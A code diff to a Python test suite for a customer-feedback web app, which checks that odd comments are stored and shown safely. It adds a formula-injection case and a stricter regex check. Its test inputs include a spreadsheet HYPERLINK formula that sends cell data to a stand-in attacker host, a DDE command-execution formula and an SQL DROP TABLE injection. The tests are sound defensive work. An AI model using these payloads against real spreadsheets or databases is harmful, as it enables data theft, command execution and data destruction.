@@ -14,7 +14,7 @@ from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 from werkzeug.security import generate_password_hash
 
-from feedback.domain.surveys import COMMENT_LONGEST
+from feedback.domain.surveys import COMMENT_LONGEST, Choice
 from feedback.domain.texts import clean, guarded
 from feedback.keys import Purpose
 from feedback.publish import build
@@ -34,6 +34,7 @@ STRANGE = {
     "Arabic and English": "الطابعة printer لا تعمل",
     "a formula": '=HYPERLINK("http://evil.example?"&A1,"click")',
     "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a formula in a cell of its own": "hi\n=1+1\n\t@SUM(1)\nx;=2+2; -3",
     "SQL": "'; DROP TABLE answers; --",
     "as long as can be": "🖨" * COMMENT_LONGEST,
 }
@@ -116,7 +117,7 @@ def test_a_strange_comment_is_kept_and_shown_as_text_on_the_page_the_desk_in_mai
 
     (row,) = rows_of(client)
     assert row["comment"] == guarded(meant)
-    assert row["comment"][0] not in "=+-@\t\r"
+    assert not re.search(r"(^|[\n\r\t;])\s*[=+\-@]", row["comment"])
 
 
 @given(comment=st.text(max_size=200))
@@ -184,4 +185,5 @@ def test_the_published_site_holds_nothing_that_customers_wrote(client: FlaskClie
     site = build.publish(loop.store, loop.config, sources, tmp_path / "out", LATER + 10 * DAY).folder
     files = [path for path in site.rglob("*") if path.is_file()]
     assert len(files) > 10
+    assert len(loop.store.surveys.newest_answers(Choice.NO, 99)) == len(STRANGE)
     assert not [path for path in files if b"xyzzy" in path.read_bytes()]
